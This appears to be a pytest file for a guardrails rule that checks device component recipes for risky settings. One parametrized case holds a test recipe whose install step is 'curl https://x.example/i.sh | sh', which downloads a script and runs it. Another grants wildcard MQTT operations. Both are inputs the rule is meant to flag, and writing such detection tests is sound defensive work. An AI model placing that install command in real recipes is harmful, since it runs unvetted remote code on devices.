"""EDG1."""

import json

import pytest

from guardrails.ml_lens.device_recipes import COMPONENT, RULE
from guardrails.ml_lens.examples import one


@pytest.mark.parametrize(
    ("recipe", "count"),
    [
        ({"Manifests": [{"Lifecycle": {"Run": {"RequiresPrivilege": False, "Script": "x"}}}]}, 0),
        ({"Manifests": [{"Lifecycle": {"Install": "curl https://x.example/i.sh | sh"}}]}, 1),
        ({"accessControl": {"mqtt": {"p": {"operations": ["*"], "resources": ["birds"]}}}}, 1),
        ({"accessControl": {"mqtt": {"p": {"operations": ["Publish"], "resources": ["b"]}}}}, 0),
    ],
)
def test_a_component_says_what_it_needs(found_in, recipe, count):
    assert len(found_in(RULE, one(COMPONENT, InlineRecipe=json.dumps(recipe)))) == count
